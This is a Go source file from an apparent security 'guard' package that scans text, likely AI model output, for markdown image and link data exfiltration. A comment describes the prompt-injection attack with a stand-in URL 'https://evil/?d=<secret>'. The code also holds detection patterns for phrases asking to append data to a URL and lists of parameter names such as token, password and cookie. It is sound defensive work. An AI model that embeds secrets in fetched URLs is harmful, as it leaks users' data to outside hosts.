package guard

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
)

// Markdown images are fetched by the client as soon as a reply renders, so
// an injected "![](https://evil/?d=<secret>)" leaks data with no click;
// links need a click but are the same channel. Images and links without
// query data are ordinary and not reported.
var (
	markdownImage = compile(`!\[[^\]\n]{0,200}\]\(\s*<?(https?://[^)\s>]+)`)
	htmlImage     = compile(`<img\b[^>]{0,200}?\bsrc\s*=\s*["']?(https?://[^"'\s>]+)`)
	markdownLink  = compile(`\[[^\]\n]{0,200}\]\(\s*<?(https?://[^)\s>]+)`)
	// bareURL: an injected instruction may just spell the URL out.
	bareURL = compile(`(https?://[^\s)>"'\]]+)`)
	// exfilPhrase asks to put data into a URL, the instruction half of the
	// attack when the URL itself is only described.
	exfilPhrase = rule(RuleMarkdownExfil, 0.6, `\b(?:append|add|include|insert|put|encode|embed|concatenate|attach)\s+(?:\S+\s+){0,6}?(?:to|in|into|as|at the end of)\s+(?:the\s+|a\s+|this\s+)?(?:url|link|query(?: string| parameters?)?|image (?:url|link|src)|parameter|src)\b`)
)

// suspiciousParams are query parameter names that, in an injected URL,
// carry the stolen text.
var suspiciousParams = map[string]bool{
	"data": true, "d": true, "secret": true, "key": true, "token": true, "pass": true, "password": true,
	"pwd": true, "chat": true, "history": true, "conversation": true, "conv": true, "prompt": true, "msg": true,
	"message": true, "content": true, "info": true, "leak": true, "exfil": true, "payload": true, "email": true,
	"cookie": true, "session": true, "summary": true, "memory": true, "ctx": true, "context": true, "creds": true,
	"credentials": true, "apikey": true, "api_key": true, "text": true, "input": true, "user": true, "x": true,
}

// placeholderMarkers in a query value show it is a template the model is
// meant to fill, e.g. "?q={conversation}" or "?d=[SECRET]".
var placeholderMarkers = []string{"{", "}", "[", "]", "$", "<", ">", "%7b", "%5b", "%24", "insert", "append",
	"here", "placeholder", "conversation", "secret", "summary", "password", "api_key", "apikey", "history", "base64",
	"previous", "messages", "all_", "user_", "_here"}

// scanMarkdown rates the URLs of images and links; exfilPhrase runs with
// the phrase rules.
func scanMarkdown(fs *findings, folded string) {
	if !strings.Contains(folded, "http") {
		return
	}
	best, bestLoc := 0.0, []int(nil)
	for _, c := range urlChannels {
		for _, m := range c.re.FindAllStringSubmatchIndex(folded, 20) {
			if s := urlScore(folded[m[2]:m[3]], c.image); s > best {
				best, bestLoc = s, m[:2]
			}
		}
	}
	if best > 0 {
		fs.add(RuleMarkdownExfil, best, excerpt(folded, bestLoc))
	}
}

// urlChannels are the markups whose URL a client may fetch or follow.
var urlChannels = []struct {
	re    *regexp.Regexp
	image bool
}{{markdownImage, true}, {htmlImage, true}, {markdownLink, false}, {bareURL, false}}

// urlScore rates one URL: query data on an image is suspicious by itself
// (badges use it too, so it stays below Threshold), a suspicious parameter
// name or a placeholder value makes it an attack.
func urlScore(raw string, image bool) float64 {
	u, err := url.Parse(raw)
	if err != nil || u.RawQuery == "" {
		return 0
	}
	suspicious := false
	for name, values := range u.Query() {
		if suspiciousParams[name] && slices.ContainsFunc(values, isTexty) {
			suspicious = true
		}
		for _, v := range values {
			if hasPlaceholder(v) || (image && len(v) > 64) {
				suspicious = true
			}
		}
	}
	switch {
	case suspicious && image:
		return 0.9
	case suspicious:
		return 0.6
	case image:
		return 0.3
	}
	return 0
}

// isTexty reports a value with letters: numbers ("data=10,20,30" of a
// chart service) carry no stolen text.
func isTexty(v string) bool {
	return strings.IndexFunc(v, func(r rune) bool { return r >= 'a' && r <= 'z' }) >= 0
}

func hasPlaceholder(v string) bool {
	for _, m := range placeholderMarkers {
		if strings.Contains(v, m) {
			return true
		}
	}
	return false
}
